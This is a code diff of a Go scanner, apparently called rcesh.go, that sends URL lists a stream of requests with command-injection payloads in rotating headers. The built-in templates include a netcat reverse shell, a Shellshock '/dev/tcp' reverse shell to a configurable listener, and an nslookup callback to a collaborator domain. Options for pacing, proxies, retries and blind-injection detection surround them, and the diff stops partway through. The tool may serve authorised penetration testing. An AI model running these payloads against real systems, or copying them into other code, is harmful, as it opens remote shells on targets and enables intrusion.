@@ -2,70 +2,528 @@ package main
 
 import (
 	"bufio"
+	"bytes"
 	"context"
+	"crypto/aes"
+	"crypto/cipher"
+	crand "crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
 	"crypto/tls"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/pem"
 	"flag"
 	"fmt"
 	"io"
+	"math/rand"
 	"net"
 	"net/http"
+	"net/http/cookiejar"
+	"net/http/httptrace"
 	"net/url"
 	"os"
+	"os/signal"
+	"path/filepath"
+	"regexp"
+	"sort"
+	"strconv"
 	"strings"
 	"sync"
 	"sync/atomic"
+	"syscall"
 	"time"
 )
 
 const (
-	maxConcurrency  = 10
-	warmConcurrency = 10
-	requestTimeout  = 15 * time.Second
-	dialTimeout     = 7 * time.Second
-	tlsTimeout      = 7 * time.Second
-	idleTimeout     = 90 * time.Second
+	requestTimeout = 15 * time.Second
+	tlsTimeout     = 7 * time.Second
+	idleTimeout    = 90 * time.Second
+
+	defaultBatchDelay = 5 * time.Second
 )
 
 var (
+	// runCtx is cancelled on SIGINT/SIGTERM: no new requests start, in-flight
+	// ones are aborted and the batch summaries still print
+	runCtx = context.Background()
+
+	dialTimeout     = 7 * time.Second // -connect-timeout
+	maxFileSize     = int64(512)      // -max-file-size, in MiB
+	maxConcurrency  = 10
+	hostSlots       *hostLimiter // -per-host; nil means only the global cap
+	warmConcurrency = 10
+
 	useRotatingHeader bool
-	headerIndex       int64
-	reqMethodMode     string
+	headerIndex       int64                   // fallback rotation for URLs missing from templateFor
+	templateFor       map[string]rotationSlot // URL -> rotating template and port, fixed by input position and -seed
+	userAgents        []string                // -ua-file pool for -header=off; empty sends the static UA
+	uaIndex           int64
+	reqMethods        []string // -method, upper-case, one batch each in order
+	concurrentMethods bool     // send all -method entries per URL in one interleaved batch
+
+	lhost     string
+	lports    []string // -lport, cycled per URL alongside the template rotation
+	portsUsed *tally
+	collab    string
+
+	minBatchDelay time.Duration
+	delayPerURL   time.Duration
+
+	// Persistent record of method+URL pairs already sent in earlier runs
+	seenDB     map[string]struct{}
+	seenDBFile *os.File
+	seenDBMu   sync.Mutex
+
+	// -resume: method+URL pairs already recorded without error in -o; read-only once loaded
+	resumeDone map[string]struct{}
+
+	replayCount    int
+	replayParallel bool
+
+	// In-band canary for SSRF/open-redirect payloads (COLLAB is the OOB/DNS one)
+	canaryDomain string
+
+	maxRedirects = 10 // 0 reports the 3xx itself instead of following it
+
+	// -H / -headers-file; set on every request before the rotating headers
+	customHeaders http.Header
+	useCookieJar  bool           // -cookie-jar: keep Set-Cookie responses for later requests
+	jarSeed       []*http.Cookie // -cookie values planted in the jar for every target
+
+	// -data / -content-type for POST, PUT and PATCH; empty means an empty form body
+	reqBody     []byte
+	contentType = "application/x-www-form-urlencoded"
+
+	lakshRe = regexp.MustCompile(`LAKSH(\d+)`)
+
+	excludeStatus statusSpec
+	matchStatus   statusSpec // nil shows every status
+
+	expectProto string // "HTTP/1.1" or "HTTP/2.0"; empty disables mismatch flagging
+	forceHTTP1  bool   // -http1: never offer h2 in ALPN
+
+	reflectPayloads bool // -reflect: look for the payloads sent by each request in its body
+
+	// Body-scan gate for -match/-reflect/-reflect-context, decided from the
+	// response headers before anything is read
+	scanMinBody   int64
+	scanMaxBody   int64    // 0 = no upper bound
+	scanSkipTypes []string // lower-case Content-Type prefixes never scanned
+	bodiesSkipped int64
+
+	// ANSI codes around findings; cleared by -no-color, NO_COLOR or a non-terminal stdout
+	red   = "\033[31;1m"
+	reset = "\033[0m"
+
+	verbosity verboseLevel // -v count: 1 request line+headers, 2 response headers, 3 body
+	logMu     sync.Mutex
+
+	tlsMinVersion uint16 = tls.VersionTLS12
+	tlsMaxVersion uint16 // 0 lets crypto/tls pick the highest supported
+
+	// Connection reuse counters fed by httptrace in fetchStatus
+	connNew    int64
+	connReused int64
+
+	// Response-body signatures (e.g. uid=\d+\(); only the first matchBytes are read
+	matchRes   []*regexp.Regexp
+	matchBytes int64
+
+	minLatency time.Duration // responses at least this slow are flagged (time-based payloads)
+
+	showCurl bool // -curl: print a replayable curl command under every shown result
+
+	// -sleep-detect: time a benign copy of every request first and flag payloads
+	// that take sleepThreshold longer
+	sleepDetect    bool
+	sleepThreshold time.Duration
+
+	// -baseline: median plain-request latency per host (extractHost key), read-only once measured
+	baselineSamples int
+	baselines       map[string]time.Duration
+
+	groupOut   *bucketWriter
+	resultOut  *recordWriter
+	diff       *statusDiff    // -compare; nil when not comparing
+	reflectOut *reflectReport // -reflect-context; nil when disabled
+	quiet      bool
+
+	// Separate pacing for warmup probes and payload requests, plus the -rps
+	// cap every request waits on; nil means unlimited
+	warmLimiter    *rateLimiter
+	payloadLimiter *rateLimiter
+	globalLimiter  *rateLimiter
+	hostPacer      *hostRates // -per-host-rps
 
-	lhost  string
-	lport  string
-	collab string
+	dnsCache *hostCache // nil with -no-dns-cache
+
+	// Fixed backend every connection goes to; Host and SNI still come from the URL
+	connectTo string
+
+	proxyURL *url.URL                            // -proxy; nil falls back to HTTP(S)_PROXY from the environment
+	resolver *net.Resolver = net.DefaultResolver // -resolver replaces it with one bound to that server
+	insecure bool
+
+	clientCerts    []tls.Certificate // -client-cert/-client-key pair offered to servers that ask
+	clientCertPath string
+	clientKeyPath  string
+
+	// Retries of transient failures; the budget caps them across the whole run
+	maxRetries      int
+	retryBudget     int64 // -1 = unlimited
+	retriesUsed     int64
+	retriesDenied   int64
+	retryMaxBackoff time.Duration
+	retryJitter     float64
+	retryAfterMax   time.Duration // cap on a 429's Retry-After wait
+	retryAfterWaits int64
+
+	oast       *interactshSession // -interactsh session; nil when disabled
+	collabPoll *webhookPoller     // -collab-poll; nil when disabled
+
+	hostOutcomes = newHostStats() // per-host breakdown printed after the run
 )
 
 // Base templates; tokens will be substituted at request time
 var rotatingHeaderTemplates = []map[string]string{
 	{
-		"User-Agent": "nc -c sh ip port",
-		"Referer":    "nc -c sh ip port",
+		"User-Agent": "nc -c sh {LHOST} {LPORT}",
+		"Referer":    "nc -c sh {LHOST} {LPORT}",
 	},
 	{
-		"User-Agent": "() { :; }; /bin/bash -i >& /dev/tcp/ip/port 0>&1",
-		"Referer":    "() { :; }; /bin/bash -i >& /dev/tcp/ip/port 0>&1",
+		"User-Agent": "() { :; }; /bin/bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1",
+		"Referer":    "() { :; }; /bin/bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1",
 	},
 	{
-		"User-Agent": "() { :; }; /usr/bin/nslookup {burp.collaborator.com}",
-		"Referer":    "() { :; }; /usr/bin/nslookup {burp.collaborator.com}",
+		"User-Agent": "() { :; }; /usr/bin/nslookup {COLLAB}",
+		"Referer":    "() { :; }; /usr/bin/nslookup {COLLAB}",
 	},
 }
 
 func main() {
-	filePath := flag.String("f", "", "Path to file containing URLs (one per line)")
+	filePath := flag.String("f", "", "Path to file containing URLs (one per line); - or no -f with piped input reads stdin")
+	flag.Int64Var(&maxFileSize, "max-file-size", maxFileSize, "Refuse input files larger than this many MiB, and cap piped input at it (0 = no limit)")
 	headerMode := flag.String("header", "off", "Header mode: on|off (rotate custom headers or use default)")
-	methodMode := flag.String("method", "get", "HTTP method mode: get|post|both")
+	uaFile := flag.String("ua-file", "", "File of User-Agents (one per line, # comments) used round-robin with -header=off instead of the static spidey/1.0 UA")
+	headerSeed := flag.Int64("seed", 0, "With -header=on, 0 gives the URL at input position i template i mod N; any other value shuffles that mapping reproducibly. Either way the same input gets the same templates every run")
+	templatesFile := flag.String("templates", "", "JSON file of rotating header templates, [{\"User-Agent\": \"... {LHOST} {LPORT}\"}, ...], replacing the built-in list for -header=on")
+	methodMode := flag.String("method", "get", "HTTP methods to send, one batch each in order: comma-separated list such as get,post,put,patch,delete (both = get,post)")
 	flag.StringVar(&lhost, "lhost", "", "Listener host/IP to inject into rotating headers")
-	flag.StringVar(&lport, "lport", "", "Listener port to inject into rotating headers")
+	lportSpec := flag.String("lport", "", "Listener port to inject into rotating headers; a comma list (4444,5555) cycles the ports per request, by input position like the templates")
 	flag.StringVar(&collab, "collab", "", "Burp collaborator domain for nslookup header (e.g., abc.oastify.com)")
+	flag.IntVar(&maxConcurrency, "concurrency", maxConcurrency, "Number of URLs requested in parallel")
+	hostSummary := flag.Int("host-summary", 20, "Hosts to list in the per-host breakdown after the run, most errors first (0 hides it)")
+	perHost := flag.Int("per-host", 0, "Max concurrent requests to any one host, on top of -concurrency (0 = no per-host cap)")
+	flag.IntVar(&warmConcurrency, "warm-concurrency", warmConcurrency, "Number of hosts warmed up in parallel")
+	flag.DurationVar(&minBatchDelay, "min-delay", defaultBatchDelay, "Minimum pause between the batches of successive -method entries")
+	flag.DurationVar(&delayPerURL, "delay-per-url", 0, "Extra pause between batches per URL on the busiest host (scales the delay with list size)")
+	flag.IntVar(&replayCount, "replay-count", 1, "Send each URL N times and aggregate the statuses (race/rate-limit testing)")
+	flag.BoolVar(&replayParallel, "replay-parallel", false, "Fire the -replay-count requests for a URL simultaneously instead of one after another")
+	flag.StringVar(&canaryDomain, "canary-domain", "", "Canary domain for SSRF/open-redirect payloads; responses redirecting to it are flagged (in-band, unlike -collab which is OOB/DNS)")
+	flag.DurationVar(&dialTimeout, "connect-timeout", dialTimeout, "TCP connect timeout, separate from the 15s whole-request timeout (e.g. 2s to skip dead hosts fast)")
+	flag.IntVar(&maxRedirects, "max-redirects", maxRedirects, "Redirects to follow per request; 0 stops at the first 3xx and reports its Location")
+	var headerFlags stringList
+	var rewriteFlags stringList
+	flag.Var(&rewriteFlags, "rewrite", "Host rewrite rule from=to applied to every URL before sending, repeatable, first match wins; one * matches any labels and is reused in to (e.g. -rewrite prod.example.com=10.0.0.5:8443 -rewrite 'www.*=*')")
+	cookie := flag.String("cookie", "", "Session cookies for every request, e.g. 'session=abc; csrf=xyz' (replaces an -H Cookie; with -cookie-jar they seed the jar for every target host)")
+	flag.BoolVar(&useCookieJar, "cookie-jar", false, "Keep cookies set by responses (redirects included) and send them on later requests to the same site, on top of -cookie")
+	flag.Var(&headerFlags, "H", "Extra header 'Name: Value' for every request, repeatable (e.g. -H 'Cookie: s=1' -H 'Host: internal')")
+	flag.BoolVar(&concurrentMethods, "concurrent-methods", false, "With several -method entries, send them all per URL in one interleaved batch and print each URL's results together (faster, but every host gets all methods at once)")
+	dataSpec := flag.String("data", "", "Body for POST/PUT/PATCH, sent verbatim: a literal string or @file (default: empty)")
+	flag.StringVar(&contentType, "content-type", contentType, "Content-Type for POST/PUT/PATCH bodies, e.g. application/json (an -H Content-Type still wins)")
+	headersFile := flag.String("headers-file", "", "File of 'Name: Value' headers for every request, one per line (# starts a comment); -H wins on conflicts")
+	pairsMode := flag.String("pairs", "auto", "Input lines as URL<TAB>payload pairs: auto (detect tabs) | on | off. The payload replaces the LAKSH markers or is appended")
+	matchStatusSpec := flag.String("match-status", "", "Only show results with these statuses, e.g. 200,301-399,500-599 (the rest are still counted in the summary)")
+	excludeSpec := flag.String("exclude-status", "", "Hide results with these statuses, e.g. 404,403,500-599 (still counted in the summary)")
+	noColor := flag.Bool("no-color", false, "Print findings without ANSI colors (automatic when stdout is not a terminal or NO_COLOR is set)")
+	flag.Var(&verbosity, "v", "Log each request: -v request line and headers sent, -v -v adds response headers, -v -v -v adds the start of the body (or -v=N)")
+	flag.BoolVar(&forceHTTP1, "http1", false, "Negotiate HTTP/1.1 only (no h2 in ALPN), for payloads that behave differently or are only parsed over h1; each result shows its protocol")
+	expectSpec := flag.String("expect-proto", "", "Flag responses not negotiated with this protocol: h1|h2 (empty: only report the breakdown)")
+	tlsMin := flag.String("tls-min", "1.2", "Minimum TLS version: 1.0|1.1|1.2|1.3")
+	tlsMax := flag.String("tls-max", "", "Maximum TLS version: 1.0|1.1|1.2|1.3 (default: highest supported)")
+	onePerPath := flag.Bool("skip-path-dupes", false, "Send only the first URL per host+path; later URLs that differ only in query are skipped")
+	groupDir := flag.String("group-output", "", "Directory receiving results split by status class: 2xx.txt, 3xx.txt, 4xx.txt, 5xx.txt, errors.txt")
+	warmRPS := flag.Float64("warm-rps", 0, "Max warmup probes per second across all hosts (0 = unlimited); keep it low on targets that block early bursts")
+	hostRPS := flag.Float64("per-host-rps", 0, "Max requests per second to any one host, across warmup, baselines, payloads, retries and every method batch, so later batches don't burst a host the earlier one just hit (0 = unlimited)")
+	globalRPS := flag.Float64("rps", 0, "Max requests per second for the whole run: warmup, payloads, replays and retries alike (0 = unlimited); stacks with -warm-rps/-payload-rps")
+	payloadRPS := flag.Float64("payload-rps", 0, "Max payload requests per second in the main batches, replays included (0 = unlimited)")
+	flag.StringVar(&connectTo, "connect-to", "", "Send every request to this IP:PORT while keeping Host and TLS SNI from each URL (virtual-host testing against one backend). Certificates are still verified against the URL host, and proxies are bypassed")
+	proxySpec := flag.String("proxy", "", "Route requests through this proxy instead of the environment one: http://127.0.0.1:8080 (Burp), https://..., socks5://...")
+	flag.BoolVar(&insecure, "k", false, "Skip TLS certificate verification: self-signed/expired certs on internal hosts, or an intercepting proxy's CA with -proxy")
+	flag.BoolVar(&insecure, "insecure", false, "Same as -k")
+	flag.StringVar(&clientCertPath, "client-cert", "", "PEM client certificate for mTLS-gated targets (needs -client-key)")
+	flag.StringVar(&clientKeyPath, "client-key", "", "PEM private key for -client-cert")
+	resolverAddr := flag.String("resolver", "", "DNS server (host:port, port defaults to 53) used to resolve every target instead of the system resolver, e.g. an internal or tunnelled one")
+	noDNSCache := flag.Bool("no-dns-cache", false, "Resolve hosts on every new connection instead of once per run")
+	dnsTTL := flag.Duration("dns-cache-ttl", 0, "Re-resolve cached hosts after this long (0 = keep for the whole run)")
+	flag.IntVar(&maxRetries, "retries", 0, "Retry a request up to N times on transient failures (timeouts, resets, EOF, 429, 5xx), with exponential backoff")
+	flag.DurationVar(&retryMaxBackoff, "retry-max-backoff", 6*time.Second, "Cap on the exponential retry delay")
+	flag.DurationVar(&retryAfterMax, "retry-after-max", 60*time.Second, "Cap on the Retry-After wait a 429 asks for before it is retried")
+	flag.Float64Var(&retryJitter, "retry-jitter", 0.2, "Random extra delay per retry, as a fraction of the backoff (0 disables)")
+	flag.Int64Var(&retryBudget, "retry-budget", -1, "Cap on retries across the whole run, bounding traffic on flaky targets; once spent, requests fail on the first error (-1 = unlimited)")
+	oastServer := flag.String("interactsh", "", "Interactsh server (e.g. oast.fun): register a session, give every request its own OOB subdomain and poll for callbacks after the run")
+	oastToken := flag.String("interactsh-token", "", "Authorization token for a private -interactsh server")
+	oastWait := flag.Duration("interactsh-wait", 15*time.Second, "How long to wait for late callbacks before polling -interactsh or -collab-poll")
+	collabPollURL := flag.String("collab-poll", "", "URL listing the callbacks your -collab server received (webhook/DNS log API, any text or JSON); every request gets its own subdomain of -collab and the URL is fetched after the run to see which ones fired")
+	collabPollHeader := flag.String("collab-poll-header", "", "Header 'Name: Value' sent when fetching -collab-poll, e.g. an API key")
+	checkCollabFlag := flag.Bool("check-collab", false, "Resolve and request the -collab domain before the run to catch dead callback domains")
+	strictCollab := flag.Bool("strict", false, "With -check-collab, abort when the collaborator check fails instead of warning")
+	matchSpec := flag.String("match", "", "Regex searched in each response body, e.g. 'uid=\\d+\\(' (matches are reported even for -exclude-status)")
+	matchFile := flag.String("match-file", "", "File of extra -match regexes, one per line (# starts a comment)")
+	flag.Int64Var(&scanMinBody, "scan-min-body", 0, "Don't scan bodies whose Content-Length is below this many bytes for -match/-reflect/-reflect-context")
+	flag.Int64Var(&scanMaxBody, "scan-max-body", 0, "Don't scan bodies whose Content-Length is above this many bytes (0 = no limit)")
+	scanSkip := flag.String("scan-skip-types", "image/,video/,audio/,font/,application/octet-stream,application/pdf,application/zip", "Content-Type prefixes whose bodies are never scanned, comma-separated (empty scans every type)")
+	flag.Int64Var(&matchBytes, "match-bytes", 64*1024, "How much of each body -match reads, in bytes")
+	flag.BoolVar(&reflectPayloads, "reflect", false, "Flag responses whose body (first -match-bytes) echoes a query value (e.g. the -pairs payload), a rotating header value or the -data body verbatim: an XSS/reflection signal separate from command output")
+	reflectFile := flag.String("reflect-context", "", "Look for query values echoed in the body (first -match-bytes) and write each hit with its HTML context (script, attribute, comment, tag-body) to this file")
+	flag.DurationVar(&minLatency, "min-latency", 0, "Flag responses taking at least this long, e.g. 8s for a 'sleep 8' payload (0 disables; slow hits are shown even for -exclude-status)")
+	flag.DurationVar(&minLatency, "slow", 0, "Same as -min-latency")
+	flag.BoolVar(&showCurl, "curl", false, "Print an equivalent curl command (method, headers, body, proxy/TLS options) under every result shown, for manual replay")
+	flag.BoolVar(&sleepDetect, "sleep-detect", false, "Time-based blind injection check: send a benign copy of each request first (query values cut at the first shell metacharacter, no rotating headers or body) and flag the payload request when it is -sleep-threshold slower. Doubles the request count")
+	flag.DurationVar(&sleepThreshold, "sleep-threshold", 5*time.Second, "With -sleep-detect, how much slower than its benign copy a payload request must be")
+	flag.IntVar(&baselineSamples, "baseline", 0, "With -min-latency, time N plain GETs to each host's / first and flag only responses slower than that host's median plus -min-latency (0 disables)")
+	outPath := flag.String("o", "", "Write one record per request (method, url, status, proto, error, elapsed) to this file")
+	outFormat := flag.String("format", "json", "Record format for -o: json (one object per line) | csv")
+	resume := flag.Bool("resume", false, "With -o in json format, skip method+URL pairs already recorded without error in that file and append new records to it")
+	compareFile := flag.String("compare", "", "Previous -o JSON file; report only requests whose outcome appeared, disappeared or changed since then (implies -quiet)")
+	flag.BoolVar(&quiet, "quiet", false, "Don't print per-URL results; only batch summaries")
+	seenDBPath := flag.String("seen-db", "", "File of method+URL keys persisted across runs; known keys are skipped and new ones appended")
+	showCfg := flag.Bool("show-config", false, "Print the effective settings to stderr and exit")
 	flag.Parse()
+	if *showCfg {
+		showConfig()
+		return
+	}
+	if *noColor || os.Getenv("NO_COLOR") != "" || !stdoutTerminal() {
+		red, reset = "", ""
+	}
 
+	if *filePath == "" && stdinPiped() {
+		*filePath = "-"
+	}
 	if *filePath == "" {
-		fmt.Println("Usage: go run rcesh.go -f urls.txt [-header=on|off] [-method=get|post|both] [-lhost=IP] [-lport=PORT] [-collab=domain]")
+		fmt.Println("Usage: go run rcesh.go -f urls.txt|- [-header=on|off [-templates=file.json] [-seed=N]] [-ua-file=uas.txt] [-method=get,post,put,...|both [-concurrent-methods]] [-lhost=IP] [-lport=PORT[,PORT...]] [-collab=domain] [-concurrency=10] [-per-host=N] [-host-summary=20] [-warm-concurrency=10] [-min-delay=5s] [-delay-per-url=0] [-seen-db=seen.txt] [-replay-count=N] [-replay-parallel] [-canary-domain=domain] [-max-file-size=512] [-connect-timeout=7s] [-max-redirects=10] [-data=body|@file] [-content-type=type] [-H='Name: Value' ...] [-cookie='a=1; b=2'] [-cookie-jar] [-rewrite=from=to ...] [-headers-file=file] [-pairs=auto|on|off] [-match-status=200,500-599] [-exclude-status=404,403] [-http1] [-expect-proto=h1|h2] [-tls-min=1.2] [-tls-max=1.3] [-group-output=dir] [-o=results.jsonl [-format=json|csv] [-resume]] [-quiet] [-v ...] [-no-color] [-compare=old.jsonl] [-match=regex] [-match-file=file] [-match-bytes=65536] [-scan-min-body=N] [-scan-max-body=N] [-scan-skip-types=image/,...] [-min-latency=8s [-baseline=N]] [-sleep-detect [-sleep-threshold=5s]] [-reflect] [-reflect-context=report.txt] [-curl] [-skip-path-dupes] [-check-collab [-strict]] [-rps=N] [-per-host-rps=N] [-warm-rps=N] [-payload-rps=N] [-resolver=IP:53] [-dns-cache-ttl=0] [-no-dns-cache] [-connect-to=IP:PORT] [-proxy=url] [-k|-insecure] [-client-cert=cert.pem -client-key=key.pem] [-retries=N [-retry-budget=N] [-retry-after-max=60s]] [-interactsh=server [-interactsh-token=t] [-interactsh-wait=15s]] [-collab-poll=url [-collab-poll-header='Name: Value']] [-show-config]")
+		os.Exit(1)
+	}
+	var err error
+	if excludeStatus, err = parseStatusSpec(*excludeSpec); err != nil {
+		fmt.Printf("Invalid -exclude-status: %v\n", err)
+		os.Exit(1)
+	}
+	if matchStatus, err = parseStatusSpec(*matchStatusSpec); err != nil {
+		fmt.Printf("Invalid -match-status: %v\n", err)
+		os.Exit(1)
+	}
+	switch strings.ToLower(strings.TrimSpace(*expectSpec)) {
+	case "":
+	case "h1", "http/1.1", "1.1":
+		expectProto = "HTTP/1.1"
+	case "h2", "http/2", "http/2.0", "2":
+		expectProto = "HTTP/2.0"
+	default:
+		fmt.Printf("Invalid -expect-proto value: %s (use h1|h2)\n", *expectSpec)
+		os.Exit(1)
+	}
+	if forceHTTP1 && expectProto == "HTTP/2.0" {
+		fmt.Println("-http1 and -expect-proto=h2 contradict each other")
+		os.Exit(1)
+	}
+	if tlsMinVersion, err = parseTLSVersion(*tlsMin); err != nil {
+		fmt.Printf("Invalid -tls-min: %v\n", err)
+		os.Exit(1)
+	}
+	if *tlsMax != "" {
+		if tlsMaxVersion, err = parseTLSVersion(*tlsMax); err != nil {
+			fmt.Printf("Invalid -tls-max: %v\n", err)
+			os.Exit(1)
+		}
+		if tlsMaxVersion < tlsMinVersion {
+			fmt.Printf("Invalid TLS range: -tls-max %s is below -tls-min %s\n", *tlsMax, *tlsMin)
+			os.Exit(1)
+		}
+	}
+	if tlsMinVersion < tls.VersionTLS12 {
+		fmt.Printf("[!] Warning: allowing TLS %s; versions below 1.2 are deprecated and insecure\n", *tlsMin)
+	}
+	if maxConcurrency < 1 || warmConcurrency < 1 {
+		fmt.Println("Invalid concurrency: -concurrency and -warm-concurrency must be at least 1")
+		os.Exit(1)
+	}
+	if customHeaders, err = loadHeaders(*headersFile, headerFlags); err != nil {
+		fmt.Printf("Invalid header: %v\n", err)
+		os.Exit(1)
+	}
+	if c := strings.TrimPrefix(strings.TrimSpace(*cookie), "Cookie: "); c != "" && useCookieJar {
+		// With a jar, net/http drops a hand-set Cookie header on redirect
+		// hops, so the session goes into the jar instead
+		if jarSeed, err = http.ParseCookie(c); err != nil {
+			fmt.Printf("Invalid -cookie: %v\n", err)
+			os.Exit(1)
+		}
+		customHeaders.Del("Cookie")
+	} else if c != "" {
+		if customHeaders == nil {
+			customHeaders = make(http.Header)
+		}
+		customHeaders.Set("Cookie", c)
+	}
+	if useCookieJar {
+		fmt.Println("[+] Cookie jar on: -cookie and Set-Cookie responses are sent on every request to the same site, redirects included")
+	}
+	if len(customHeaders) > 0 {
+		fmt.Printf("[+] %d custom headers: they replace the default User-Agent, but -header=on rotating headers are applied last and win\n", len(customHeaders))
+	}
+	if dialTimeout <= 0 {
+		fmt.Println("Invalid -connect-timeout: must be positive")
+		os.Exit(1)
+	}
+	if dialTimeout > requestTimeout {
+		fmt.Printf("[!] -connect-timeout %v exceeds the %v request timeout; the request timeout will cut connects short\n", dialTimeout, requestTimeout)
+	}
+	if maxRedirects < 0 {
+		fmt.Println("Invalid -max-redirects: must not be negative")
+		os.Exit(1)
+	}
+	if replayCount < 1 {
+		fmt.Println("Invalid -replay-count: must be at least 1")
+		os.Exit(1)
+	}
+	if maxRetries < 0 || retryBudget < -1 {
+		fmt.Println("Invalid retries: -retries must not be negative and -retry-budget must be -1 or more")
+		os.Exit(1)
+	}
+	if *globalRPS < 0 || *warmRPS < 0 || *payloadRPS < 0 {
+		fmt.Println("Invalid rate: -rps, -warm-rps and -payload-rps must not be negative")
+		os.Exit(1)
+	}
+	if *proxySpec != "" {
+		if proxyURL, err = url.Parse(*proxySpec); err != nil || proxyURL.Host == "" {
+			fmt.Printf("Invalid -proxy: %s (use scheme://host:port)\n", *proxySpec)
+			os.Exit(1)
+		}
+		switch proxyURL.Scheme {
+		case "http", "https", "socks5", "socks5h":
+		default:
+			fmt.Printf("Invalid -proxy scheme %q (use http|https|socks5)\n", proxyURL.Scheme)
+			os.Exit(1)
+		}
+		if connectTo != "" {
+			fmt.Println("-proxy and -connect-to cannot be combined")
+			os.Exit(1)
+		}
+	}
+	if insecure {
+		via := ""
+		if proxyURL != nil {
+			via = " (including through -proxy " + proxyURL.Host + ")"
+		}
+		fmt.Printf("[!] Warning: TLS certificate verification is DISABLED%s; any certificate is accepted, so make sure every host is in scope\n", via)
+	}
+	if (clientCertPath == "") != (clientKeyPath == "") {
+		fmt.Println("-client-cert and -client-key must be given together")
+		os.Exit(1)
+	}
+	if clientCertPath != "" {
+		cert, err := tls.LoadX509KeyPair(clientCertPath, clientKeyPath)
+		if err != nil {
+			fmt.Printf("Error loading client certificate: %v\n", err)
+			os.Exit(1)
+		}
+		clientCerts = []tls.Certificate{cert}
+		fmt.Printf("[+] Presenting client certificate %s for mTLS\n", clientCertPath)
+	}
+	if connectTo != "" {
+		if _, _, err := net.SplitHostPort(connectTo); err != nil {
+			fmt.Printf("Invalid -connect-to: %v (use IP:PORT)\n", err)
+			os.Exit(1)
+		}
+		fmt.Printf("[+] Connecting to %s for every URL (Host/SNI from the URL)\n", connectTo)
+	}
+	if *resolverAddr != "" {
+		addr := *resolverAddr
+		if _, _, err := net.SplitHostPort(addr); err != nil {
+			addr = net.JoinHostPort(addr, "53")
+		}
+		resolver = newResolver(addr)
+		fmt.Printf("[+] Resolving targets through %s\n", addr)
+		if proxyURL != nil {
+			fmt.Println("[!] Warning: with -proxy the proxy resolves target names; -resolver only affects direct connections")
+		}
+	}
+	if !*noDNSCache {
+		dnsCache = newHostCache(*dnsTTL)
+	}
+	if *perHost < 0 {
+		fmt.Println("Invalid -per-host: must not be negative")
+		os.Exit(1)
+	}
+	if retryMaxBackoff <= 0 {
+		fmt.Println("Invalid -retry-max-backoff: must be positive")
+		os.Exit(1)
+	}
+	if retryJitter < 0 {
+		fmt.Println("Invalid -retry-jitter: must not be negative")
+		os.Exit(1)
+	}
+	if retryAfterMax <= 0 {
+		fmt.Println("Invalid -retry-after-max: must be positive")
+		os.Exit(1)
+	}
+	if *perHost > 0 {
+		hostSlots = newHostLimiter(*perHost)
+	}
+	warmLimiter = newRateLimiter(*warmRPS)
+	payloadLimiter = newRateLimiter(*payloadRPS)
+	globalLimiter = newRateLimiter(*globalRPS)
+	if *hostRPS < 0 {
+		fmt.Println("Invalid -per-host-rps: must not be negative")
+		os.Exit(1)
+	}
+	hostPacer = newHostRates(*hostRPS)
+	if minBatchDelay < 0 || delayPerURL < 0 {
+		fmt.Println("Invalid delay: -min-delay and -delay-per-url must not be negative")
 		os.Exit(1)
 	}
 
+	if *uaFile != "" {
+		lines, err := readURLs(*uaFile)
+		if err != nil {
+			fmt.Printf("Error reading -ua-file: %v\n", err)
+			os.Exit(1)
+		}
+		for _, l := range lines {
+			if !strings.HasPrefix(l, "#") {
+				userAgents = append(userAgents, l)
+			}
+		}
+		if len(userAgents) == 0 {
+			fmt.Printf("Invalid -ua-file: %s has no User-Agents\n", *uaFile)
+			os.Exit(1)
+		}
+		fmt.Printf("[+] Rotating %d User-Agents from %s\n", len(userAgents), *uaFile)
+	}
+	if *templatesFile != "" {
+		tpls, err := loadHeaderTemplates(*templatesFile)
+		if err != nil {
+			fmt.Printf("Invalid -templates: %v\n", err)
+			os.Exit(1)
+		}
+		rotatingHeaderTemplates = tpls
+		fmt.Printf("[+] Loaded %d header templates from %s\n", len(tpls), *templatesFile)
+		if strings.ToLower(*headerMode) != "on" {
+			fmt.Println("[!] Warning: -templates only applies with -header=on")
+		}
+	}
+	if lports, err = parsePorts(*lportSpec); err != nil {
+		fmt.Printf("Invalid -lport: %v\n", err)
+		os.Exit(1)
+	}
+	if len(lports) > 1 {
+		fmt.Printf("[+] Cycling %d listener ports: %s\n", len(lports), strings.Join(lports, ","))
+	}
 	if strings.ToLower(*headerMode) == "on" {
 		useRotatingHeader = true
 		fmt.Println("[+] Rotating Header Mode Enabled")
@@ -74,13 +532,27 @@ func main() {
 		fmt.Println("[+] Default Header Mode Enabled")
 	}
 
-	reqMethodMode = strings.ToLower(strings.TrimSpace(*methodMode))
-	switch reqMethodMode {
-	case "get", "post", "both":
-	default:
-		fmt.Printf("Invalid -method value: %s (use get|post|both)\n", reqMethodMode)
+	if reqMethods, err = parseMethods(*methodMode); err != nil {
+		fmt.Printf("Invalid -method value: %v\n", err)
+		os.Exit(1)
+	}
+	if concurrentMethods && replayCount > 1 {
+		fmt.Println("-concurrent-methods cannot be combined with -replay-count")
 		os.Exit(1)
 	}
+	if reqBody, err = loadData(*dataSpec); err != nil {
+		fmt.Printf("Invalid -data: %v\n", err)
+		os.Exit(1)
+	}
+	if len(reqBody) > 0 {
+		withBody := false
+		for _, m := range reqMethods {
+			withBody = withBody || sendsBody(m)
+		}
+		if !withBody {
+			fmt.Println("[!] Warning: -data is only sent with POST, PUT or PATCH; add one to -method")
+		}
+	}
 
 	// Normalize collaborator: strip scheme if provided
 	if collab != "" {
@@ -88,6 +560,24 @@ func main() {
 		collab = strings.TrimPrefix(collab, "http://")
 		collab = strings.TrimPrefix(collab, "https://")
 	}
+	if *checkCollabFlag {
+		if collab == "" {
+			fmt.Println("[!] -check-collab: no -collab domain set, nothing to check")
+		} else if addrs, err := checkCollab(collab); err != nil {
+			fmt.Printf("[!] Collaborator %s check failed: %v\n", collab, err)
+			if *strictCollab {
+				os.Exit(1)
+			}
+		} else {
+			fmt.Printf("[+] Collaborator %s resolves to %s and answers HTTP\n", collab, strings.Join(addrs, ", "))
+		}
+	}
+	if canaryDomain != "" {
+		canaryDomain = strings.TrimSpace(canaryDomain)
+		canaryDomain = strings.TrimPrefix(canaryDomain, "http://")
+		canaryDomain = strings.TrimPrefix(canaryDomain, "https://")
+		canaryDomain = strings.ToLower(strings.TrimSuffix(canaryDomain, "/"))
+	}
 
 	urls, err := readURLs(*filePath)
 	if err != nil {
@@ -95,7 +585,130 @@ func main() {
 		os.Exit(1)
 	}
 
+	switch strings.ToLower(*pairsMode) {
+	case "on":
